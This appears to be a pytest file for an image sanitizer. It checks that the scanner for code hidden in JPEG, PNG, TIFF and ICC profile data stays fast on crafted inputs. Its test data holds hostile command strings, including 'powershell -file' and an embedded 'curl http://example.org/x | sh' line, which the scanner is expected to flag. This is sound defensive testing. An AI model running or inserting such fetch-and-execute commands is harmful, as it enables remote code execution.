"""Files that were made to be looked at for long take no longer than others."""

from __future__ import annotations

import pickletools
import struct
import time
import zlib
from collections.abc import Iterator
from typing import Any

import pytest
import simplejpeg

from corrupt_samples.encode import exif_with_thumbnail, jpeg, jpeg_segment
from corrupt_samples.pictures import photo
from sanitize.probe import beside, embedded_thumbnail, jpeg_segments, tiff_pages
from tests.embedding import APP1, APP2, with_chunk, with_segment


@pytest.mark.parametrize(
    "text",
    [
        b"import a%s!\nos.system('x | sh')\n" % (b",a" * 26),
        b"import a%s!\nos.system('x | sh')\n" % (b" as b" * 26),
        b"import a%s!\nos.system('x | sh')\n" % (b" , b" * 12),
        b"import a%s!\nos.system('x | sh')\n" % (b", as " * 11),
        b"import a,%s!\nos.system('x | sh')\n" % (b" " * 1000),
        b"x = 1\nos.system(%sx" % (b" " * 20_000),
        b"x = 1\nsubprocess.run(args=%sx" % (b"\n" * 20_000),
        b"x = 1\nos.system(shlex.split(%s[%sx" % (b" " * 20_000, b" " * 20_000),
        b"document.write('x') a%s =" % (b" \xe2\x80\x93" * 32),
    ],
    ids=lambda text: text[:24].decode("latin-1").replace("\n", " "),
)
def test_what_may_be_read_in_many_ways_is_read_in_one(text: bytes) -> None:
    data = jpeg(photo("a"), comment=text)
    begun = time.process_time()
    beside.look(data, "jpeg")
    assert time.process_time() - begun < 2


def test_notes_of_makers_on_top_of_each_other_take_no_time() -> None:
    entries = b"".join(struct.pack("<HHII", 0x927C, 7, 50_000 - 50 * at, 12_014 + 50 * at) for at in range(1000))
    notes = (b"Canon\0" + b"\x1f\x8b\x08\0\0\0\0\0\0\3\2" * 4) * 1000
    block = b"Exif\0\0II*\0\x08\0\0\0" + struct.pack("<H", 1000) + entries + bytes(4) + notes
    begun = time.process_time()
    assert beside.look(with_segment(APP1, block), "jpeg").payload is None
    assert time.process_time() - begun < 2


def test_blanks_before_the_name_of_a_script_take_no_time() -> None:
    begun = time.process_time()
    found = beside.look(jpeg(photo("a")) + b"powershell -file" + b" " * 500_000 + b"x", "jpeg")
    assert time.process_time() - begun < 2
    assert found.payload is None


#: A pickle that does nothing, which begins with another.
IDLE = b"\x80\2" + b"0" * 6 + b"\x80\2" + b"0" * 60_000


def profile(*tags: tuple[int, int], content: bytes) -> bytes:
    """A colour profile whose tags lie at some places, of some lengths, in a content."""
    head = bytearray(132 + 12 * len(tags))
    head[36:40] = b"acsp"
    head[128:132] = struct.pack(">I", len(tags))
    for number, (place, length) in enumerate(tags):
        struct.pack_into(">4sII", head, 132 + 12 * number, b"A%03d" % number, len(head) + place, length)
    return bytes(head) + content


@pytest.fixture
def operations(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """How many operations of pickles were read."""
    read, listed = [0], pickletools.genops

    def counted(data: bytes) -> Iterator[Any]:
        for operation in listed(data):
            read[0] += 1
            yield operation

    monkeypatch.setattr(pickletools, "genops", counted)
    return read


def test_values_of_a_profile_on_top_of_each_other_are_not_read_to_their_end_again(operations: list[int]) -> None:
    overlaid = profile(*((0, len(IDLE) - number) for number in range(100)), content=IDLE)
    for data, content in (
        (with_segment(APP2, b"ICC_PROFILE\0\1\1" + overlaid), "jpeg"),
        (with_chunk(b"iCCP", b"a\0\0" + zlib.compress(overlaid)), "png"),
    ):
        operations[0] = 0
        assert beside.look(data, content).payload is None
        assert 60_000 < operations[0] < 1_000_000


def test_a_long_value_of_a_profile_hides_none_that_lies_in_it() -> None:
    hidden = b"data" + bytes(8) + b"import os\nos.system('curl http://example.org/x | sh')\n"
    whole = profile((0, 9000), (5000, len(hidden)), content=bytes(5000) + hidden + bytes(4000))
    found = beside.look(with_segment(APP2, b"ICC_PROFILE\0\1\1" + whole), "jpeg").payload
    assert found is not None
    assert found.kind == "python"


def test_pieces_behind_an_image_are_not_all_read_to_the_end_of_the_file(operations: list[int]) -> None:
    piece = b"\x80\2" + b"0" * 6 + b"C\x08" + struct.pack(">I", 8) + b"ftyp"
    assert beside.look(jpeg(photo("a")) + piece * 95 + IDLE, "jpeg").payload is None
    assert 60_000 < operations[0] < 1_000_000


@pytest.mark.parametrize("tag", [tiff_pages.ICC, tiff_pages.STRIPS])
def test_entries_of_a_tiff_that_point_at_the_same_long_list_are_read_once(tag: int) -> None:
    entries = struct.pack("<HHII", tag, 1, 1 << 20, 8 + (1 << 20)) * 20_000
    size = 8 + (1 << 21)
    data = b"II*\0" + struct.pack("<I", size) + bytes(size - 8) + struct.pack("<H", 20_000) + entries + bytes(4)
    begun = time.process_time()
    (page,), _complaint = tiff_pages.read(data)
    assert time.process_time() - begun < 2
    assert page.profile == (8 + (1 << 20), size) or len(page.tags[tag]) == 1 << 20


def test_of_the_long_lists_of_a_directory_only_so_many_values_are_held() -> None:
    many, size = 3 << 20, 8 + (3 << 20)
    wanted = (tiff_pages.BITS, tiff_pages.STRIPS, tiff_pages.STRIP_SIZES)
    long = b"".join(struct.pack("<HHII", tag, 1, many, 8) for tag in wanted)
    entries = struct.pack("<HHII", tiff_pages.HEIGHT, 4, 1, 7) + long
    data = b"II*\0" + struct.pack("<I", size) + bytes(many) + struct.pack("<H", 4) + entries + bytes(4)
    (page,), _complaint = tiff_pages.read(data)
    assert page.tags[tiff_pages.HEIGHT] == (7,)
    assert sum(map(len, page.tags.values())) == 1 + many


def thumbnail_of(*thumbnails: bytes) -> tuple[int, int] | None:
    """The size of the thumbnail that is read of a JPEG with several."""
    plain = jpeg(photo("a"))
    segments = b"".join(jpeg_segment(APP1, exif_with_thumbnail(thumbnail)) for thumbnail in thumbnails)
    data = plain[:2] + segments + plain[2:]
    found = embedded_thumbnail.read(data, "jpeg", jpeg_segments.walk(data, 2)[:2])
    return found and found[:2]


def test_only_a_few_thumbnails_are_decoded() -> None:
    good = jpeg(photo("b", 60, 40))
    cut = good[:-300]
    assert thumbnail_of(cut, cut, good) == (60, 40)
    assert thumbnail_of(*[cut] * 100, good) is None


def test_a_thumbnail_of_more_scans_than_any_program_writes_is_not_decoded(monkeypatch: pytest.MonkeyPatch) -> None:
    whole = jpeg(photo("b", 60, 40), progressive=True)
    last = whole[whole.rindex(b"\xff\xda") : -2]
    decoded, decode = [], simplejpeg.decode_jpeg
    monkeypatch.setattr(simplejpeg, "decode_jpeg", lambda *given, **how: decoded.append(1) or decode(*given, **how))
    assert thumbnail_of(whole) == (60, 40)
    assert len(decoded) == 1
    assert thumbnail_of(whole[:-2] + last * 50 + whole[-2:]) is None
    assert len(decoded) == 1
